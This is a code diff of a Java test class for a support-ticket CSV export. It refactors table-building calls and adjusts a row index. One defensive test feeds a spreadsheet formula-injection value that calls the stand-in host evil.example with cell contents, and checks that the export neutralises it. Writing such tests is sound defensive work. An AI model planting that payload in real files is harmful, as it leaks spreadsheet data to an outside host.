@@ -32,7 +32,8 @@ class TicketCsvTest {
 
   @Test
   void holdsEveryTicketWithItsPage() throws IOException {
-    List<CSVRecord> rows = read(Samples.pages().table(SampleIndex.full().tickets()));
+    List<CSVRecord> rows =
+        read(SampleIndex.table(Samples.pages(), SampleIndex.tickets(SampleIndex.full())));
 
     assertEquals(4, rows.size());
     CSVRecord rich = rows.get(1);
@@ -50,12 +51,13 @@ class TicketCsvTest {
     assertEquals("2", rich.get("notes"));
     assertEquals("8", rich.get("attachments"));
     assertEquals("tickets/2024-11/7311-KXB-482913.html", rich.get("page"));
-    assertEquals("", rows.get(2).get("opened"));
+    assertEquals("", rows.get(3).get("opened"));
   }
 
   @Test
   void hasNoColumnForNotesInACustomerCopy() {
-    String csv = Samples.customerPages().table(SampleIndex.full().tickets());
+    String csv =
+        SampleIndex.table(Samples.customerPages(), SampleIndex.tickets(SampleIndex.full()));
 
     assertEquals(
         "\ufeffid,number,subject,client_id,client,department,status,priority,opened,last_reply,"
@@ -85,7 +87,8 @@ class TicketCsvTest {
         "=HYPERLINK(\"http://evil.example?\"&amp;A1)\r\n=2"
       })
   void startsNoFormula(String hostile) throws IOException {
-    List<CSVRecord> rows = read(Samples.pages().table(List.of(ticket(hostile), ticket("Last"))));
+    List<CSVRecord> rows =
+        read(SampleIndex.table(Samples.pages(), List.of(ticket(hostile), ticket("Last"))));
 
     assertEquals(2, rows.size());
     assertEquals("Last", rows.get(1).get("subject"));
@@ -101,14 +104,15 @@ class TicketCsvTest {
   @Test
   void leavesOrdinaryTextAlone() throws IOException {
     for (String text : List.of("a = b", "Re: -1 day", "Müller, “Söhne”", "'quoted'", "請求書")) {
-      List<CSVRecord> rows = read(Samples.pages().table(List.of(ticket(text))));
+      List<CSVRecord> rows = read(SampleIndex.table(Samples.pages(), List.of(ticket(text))));
       assertEquals(text, rows.get(0).get("subject"));
     }
   }
 
   @Test
   void keepsKeysOfTicketsToItself() {
-    String csv = Samples.pages().table(List.of(ticket("viewticket.php?tid=1&amp;c=aB3dE5fG")));
+    String csv =
+        SampleIndex.table(Samples.pages(), List.of(ticket("viewticket.php?tid=1&amp;c=aB3dE5fG")));
 
     assertFalse(csv.contains("aB3dE5fG"), csv);
   }
